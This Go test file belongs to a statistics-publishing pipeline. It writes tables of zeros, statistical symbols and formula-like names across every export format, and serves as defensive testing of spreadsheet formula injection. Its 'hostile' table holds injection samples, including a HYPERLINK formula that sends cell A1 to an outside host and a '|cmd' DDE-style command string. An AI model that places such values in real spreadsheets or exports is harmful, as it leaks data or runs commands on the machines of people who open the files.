package pipeline

import (
	"flag"
	"io"
	"os"
	"testing"

	"tresektor/pipeline/edition"
	"tresektor/pipeline/edition/cube"
	"tresektor/pipeline/format/xlsx"
)

var keep = flag.String("keep", "", "folder to leave the tables of TestZeroAndTheSymbolsAreFourThings in, for make conformance")

// TestZeroAndTheSymbolsAreFourThings writes a table with 0, ".", ".." and
// "..." in every format there is, and one with names that a spreadsheet would
// take for formulas. Each format's own tests say how it tells them apart; make
// conformance asks readers from outside the same of these files, because the
// example has nothing suppressed and no such name.
func TestZeroAndTheSymbolsAreFourThings(t *testing.T) {
	c, err := edition.NewCandidate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	share := madeUp(fourThings())
	tables := []edition.Table{share, madeUp(oneMeasure()), madeUp(hostile())}
	for _, err := range []error{
		writeTables(c, tables), writeCubes(c, []edition.Table{withoutMeasure(share)}, cube.Options{}),
		writeReport(c, []Card{}), writeBooks(c, tables),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	want := len(tables)*len(tableFormats()) + 1 + len(cubeFormats()) + 1 + len(languages())
	if got := len(c.Files()); got != want {
		t.Errorf("%d files, want %d", got, want)
	}
	if *keep == "" {
		return
	}
	if err := os.CopyFS(*keep, os.DirFS(c.Folder())); err != nil {
		t.Fatal(err)
	}
}

// madeUp says what every published table says of itself.
func madeUp(t edition.Table) edition.Table {
	t.Description, t.Publisher = word("Påhittade rader.", "Made-up rows."), word("Provmyndigheten", "The Test Agency")
	return t
}

func writeBooks(c *edition.Candidate, tables []edition.Table) error {
	for _, language := range languages() {
		r := xlsx.Report{Language: language, Title: "Fyra saker", Publisher: "Provmyndigheten", Date: "2026-11-22"}
		for _, t := range tables {
			r.Sheets = append(r.Sheets, xlsx.Sheet{Table: t, Whole: len(t.Rows)})
		}
		if err := c.Write(workbookFile(language), func(w io.Writer) error { return xlsx.Write(w, r) }); err != nil {
			return err
		}
	}
	return nil
}

// hostile has each sign that begins a formula somewhere, and texts that must
// stay as they are.
func hostile() edition.Table {
	t := edition.Table{
		Name: "hostile", Title: word("Namn som ser ut som formler", "Names that look like formulas"), Grain: []string{"number"},
		Fields: []edition.Field{
			{Name: "number", Kind: edition.KindInteger, Label: word("Nummer", "Number")},
			{Name: "name", Kind: edition.KindText, FromSource: true, Label: word("Namn", "Name")},
		},
	}
	for i, name := range []string{
		`=HYPERLINK("http://example.org/?"&A1,"Välj")`, "+46 8 123 456", "-1+1|cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
		"'=1+1", " =1+1", "Omsorg = trygghet", "1e5", "007", "\"citat\", komma; semikolon", "två\r\nrader", "TRUE", "",
	} {
		t.Rows = append(t.Rows, []any{int64(i + 1), name})
	}
	return t
}

func fourThings() edition.Table {
	return edition.Table{
		Name: "share", Title: word("Fyra saker", "Four things"), Grain: []string{"measure", "period", "sector"}, Updated: "2026-11-22",
		Notes: []edition.Note{symbolNote(), {Text: word("Andel av känd mängd; \"känd\" är det som syns", "Share of known amounts"), Field: "share"}},
		Fields: []edition.Field{
			{Name: "measure", Kind: edition.KindText, Dimension: true, Label: word("Mått", "Measure")},
			{Name: "period", Kind: edition.KindText, Dimension: true, Role: edition.RoleTime, Label: word("Period", "Period")},
			{Name: "sector", Kind: edition.KindText, Dimension: true, Label: word("Sektor", "Sector"),
				Codes: []edition.Code{{Code: "public", Label: word("Offentlig", "Public")}, {Code: "ideburen", Label: word("Idéburen", "Non-profit")}}},
			{Name: "amount", Kind: edition.KindInteger, Symbol: "symbol", Label: word("Mängd", "Amount")},
			{Name: "share", Kind: edition.KindDecimal, Decimals: 6, Symbol: "symbol", Label: word("Andel", "Share")},
			{Name: "symbol", Kind: edition.KindText, Label: word("Tecken", "Symbol")},
		},
		Rows: [][]any{
			{"prov", "2022", "public", int64(7), "1.000000", ""},
			{"prov", "2022", "ideburen", int64(0), "0.000000", ""},
			{"prov", "2023", "public", nil, nil, edition.NotApplicable},
			{"prov", "2023", "ideburen", nil, nil, edition.Missing},
			{"prov", "2024", "public", nil, nil, edition.Suppressed},
			{"prov", "2024", "ideburen", int64(-3), nil, ""},
		},
	}
}

func oneMeasure() edition.Table {
	return edition.Table{
		Name: "measure", Title: word("Mått", "Measures"), Grain: []string{"measure"}, Rows: [][]any{{"prov"}},
		Fields: []edition.Field{{Name: "measure", Kind: edition.KindText, Label: word("Mått", "Measure")}},
	}
}

func withoutMeasure(t edition.Table) edition.Table {
	t.Name, t.Grain, t.Fields = "share_prov", t.Grain[1:], t.Fields[1:]
	rows := t.Rows
	t.Rows = nil
	for _, row := range rows {
		t.Rows = append(t.Rows, row[1:])
	}
	return t
}
